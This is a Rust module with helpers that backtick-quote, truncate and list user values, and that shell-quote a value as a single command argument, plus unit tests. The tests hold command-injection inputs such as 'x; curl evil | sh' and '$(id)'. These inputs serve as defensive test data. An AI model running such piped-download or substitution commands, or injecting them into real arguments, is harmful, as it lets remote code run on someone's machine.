//! Values of other people in sentences of ours.

use core::fmt::Display;

/// The longest value that a sentence shows, in characters.
const LONGEST: usize = 512;

/// A value in backticks. It cannot end its quotation, and goes on for no longer than a reader follows.
pub(crate) fn quoted(value: &impl Display) -> String {
    let text = value.to_string();
    let mut shown = String::with_capacity(text.len() + 2);
    shown.push('`');
    for (nth, c) in text.chars().enumerate() {
        if nth == LONGEST {
            shown.push('…');
            break;
        }
        match c {
            '`' => shown.push_str("\\u{60}"),
            c => shown.push(c),
        }
    }
    shown.push('`');
    shown
}

/// Values in backticks, the first few and how many more.
pub(crate) fn quoted_list(values: &[impl Display]) -> String {
    const MOST: usize = 6;
    let mut shown: Vec<String> = values.iter().take(MOST).map(quoted).collect();
    let more = values.len().saturating_sub(MOST);
    shown.extend((more > 0).then(|| format!("{more} more")));
    shown.join(", ")
}

/// A value as one argument of a command that people copy: where a shell would see more in it, in quotes.
pub(crate) fn argument(value: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_./:=@,+%-".contains(c);
    if !value.is_empty() && !value.starts_with('-') && value.chars().all(is_plain) {
        return value.to_owned();
    }
    format!("'{}'", value.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_stays_inside_of_its_quotation() {
        assert_eq!(quoted(&"tenant-7f2"), "`tenant-7f2`");
        assert_eq!(quoted(&"a` is fine. `b"), r"`a\u{60} is fine. \u{60}b`");
        assert_eq!(quoted(&"é".repeat(600)).chars().count(), LONGEST + 3);
        assert_eq!(quoted_list(&["a", "b"]), "`a`, `b`");
        assert!(quoted_list(&["a"; 100]).ends_with(", `a`, 94 more"));
    }

    #[test]
    fn an_argument_is_one_word_of_a_shell() {
        assert_eq!(
            argument("arn:aws:iam::111122223333:role/team/a+b=c,d.e@f-g_h"),
            "arn:aws:iam::111122223333:role/team/a+b=c,d.e@f-g_h"
        );
        assert_eq!(argument("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(argument("$(id)'`id`"), r"'$(id)'\''`id`'");
        assert_eq!(argument("--profile"), "'--profile'");
        assert_eq!(argument(""), "''");
    }
}
